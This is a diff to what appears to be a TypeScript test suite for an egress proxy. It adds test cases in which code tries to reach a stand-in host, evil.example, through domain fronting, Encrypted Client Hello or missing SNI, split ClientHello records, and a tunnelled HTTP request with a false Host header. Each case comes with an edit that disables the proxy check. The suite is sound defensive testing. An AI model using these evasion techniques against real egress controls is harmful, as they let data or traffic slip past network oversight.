@@ -1,3 +1,4 @@
+import { clientHello, ECH, type Hello } from "../../clientHello.ts";
 import { HOST, NAMES, NETWORK, SERVER } from "../../outside.ts";
 import type { EgressAttack, EgressConfiguration } from "./attack.ts";
 
@@ -18,6 +19,10 @@ const both =
 	(careless: EgressConfiguration) => {
 		for (const part of parts) part(careless);
 	};
+
+const anyOpening = ({ edits }: EgressConfiguration) =>
+	edits.push({ file: "tunnel.ts", from: "judgeOpening(opening, wanted)", to: '"pass" as string' });
+const hex = (hello: Hello) => `Buffer.from("${clientHello(hello).toString("hex")}", "hex")`;
 
 const elsewhere = (name: string) => `
 	const { status } = await get("http://${name}/").catch(refused);
@@ -134,6 +139,28 @@ export const egressAttacks: EgressAttack[] = [
 		off: ({ edits }) => {
 			edits.push({ file: "server.ts", from: /return isNamedBy\(.*/, to: "return gate(wanted);" });
 		},
+	},
+	{
+		name: "speaks TLS to another name than it asked for (domain fronting)",
+		runs: `return (await said("api.example.com:443", ${hex({ names: ["evil.example"] })})).startsWith("\\x16");`,
+		stoppedBy: "TLS must show the name that the tunnel was opened for",
+		off: anyOpening,
+	},
+	{
+		name: "hides whom it speaks TLS to (ECH, no name, a name in pieces after a second one)",
+		runs: `
+			const answers = [];
+			for (const hello of [${[{ names: ["api.example.com"], extensions: [ECH] }, {}, { names: ["api.example.com", "evil.example"], recordBytes: 7 }].map(hex).join()}]) answers.push(await said("api.example.com:443", hello));
+			return answers.some((answer) => answer.startsWith("\\x16"));`,
+		stoppedBy: "TLS must show the name that the tunnel was opened for",
+		off: anyOpening,
+	},
+	{
+		name: "asks another host for a page, in a tunnel",
+		runs: `return (await said("api.example.com:80", "GET / HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n")).includes("evil.example");`,
+		unheard: /evil\.example/,
+		stoppedBy: "plain pages are asked for without a tunnel",
+		off: anyOpening,
 	},
 	{
 		name: "hides a second request in a first (smuggling through the proxy)",
